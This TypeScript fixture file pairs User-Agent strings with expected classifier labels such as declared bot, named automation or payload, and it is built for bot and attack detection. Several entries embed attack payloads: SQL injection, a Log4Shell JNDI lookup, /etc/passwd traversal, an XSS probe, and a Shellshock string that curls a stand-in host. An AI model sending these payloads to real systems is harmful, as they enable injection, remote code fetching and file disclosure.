/** Programs by User-Agent: mail scanners, link checkers, monitors, tools and attacks. */
import type { WorldCase } from '../world.ts'

const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36'

/** The first conclusive signal. */
export const MAIL_AND_BOTS: readonly WorldCase<string, string>[] = [
  {
    from: 'https://github.com/jsdom/jsdom#pretending-to-be-a-visual-browser',
    sent: 'Mozilla/5.0 (linux) AppleWebKit/537.36 (KHTML, like Gecko) jsdom/29.0.0',
    right: 'automation.named',
    level: 'pure',
  },
  {
    from: 'https://owasp.org/www-community/attacks/SQL_Injection',
    sent: `${CHROME}' OR SLEEP(5) AND '1'='1`,
    right: 'ua.payload',
    level: 'pure',
  },
  {
    from: 'https://owasp.org/www-community/attacks/SQL_Injection',
    sent: `${CHROME}' UNION ALL SELECT NULL,NULL--`,
    right: 'ua.payload',
    level: 'pure',
  },
  {
    from: 'https://logging.apache.org/security.html',
    sent: `${CHROME} \${jndi:ldap://x.example/a}`,
    right: 'ua.payload',
    level: 'pure',
  },
  {
    from: 'https://owasp.org/www-community/attacks/Path_Traversal',
    sent: `${CHROME} ../../../../etc/passwd`,
    right: 'ua.payload',
    level: 'pure',
  },
  {
    from: 'https://owasp.org/www-community/attacks/xss/',
    sent: `${CHROME} <script>alert(1)</script>`,
    right: 'ua.payload',
    level: 'pure',
  },
  {
    from: 'https://nvd.nist.gov/vuln/detail/CVE-2014-6271',
    sent: '() { :;}; /bin/bash -c "curl http://x.example/a"',
    right: 'ua.declared_bot',
    level: 'pure',
  },
  {
    from: 'https://help.siteimprove.com/support/solutions/articles/80000448553',
    sent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Image size by Siteimprove.com',
    right: 'ua.declared_bot',
    level: 'pure',
  },
  {
    from: 'https://docs.assetnote.io',
    sent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36 Assetnote/1.0.0',
    right: 'ua.declared_bot',
    level: 'pure',
  },
  {
    from: 'https://developers.google.com/search/docs/crawling-indexing/google-special-case-crawlers',
    sent: 'Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3.170816.012; DuplexWeb-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.131 Mobile Safari/537.36',
    right: 'ua.declared_bot',
    level: 'pure',
    why: 'It acted for one user of Google’s assistant, and indexed nothing.',
  },
  { from: 'https://curl.se/docs/manpage.html', sent: 'curl/8.0', right: 'ua.declared_bot', level: 'pure' },
  {
    from: 'https://support.claude.com/en/articles/8896518',
    sent: 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-User/1.0; +Claude-User@anthropic.com)',
    right: 'ua.declared_bot',
    level: 'pure',
  },
  {
    from: 'https://docs.mistral.ai/robots',
    sent: 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; MistralAI-User/1.0; +https://docs.mistral.ai/robots)',
    right: 'ua.declared_bot',
    level: 'pure',
  },
  {
    from: 'fnando/browser#338',
    sent: 'AcmeLinkChecker/2.0 (+https://acme.example/bot)',
    right: 'ua.declared_bot',
    level: 'pure',
  },
]
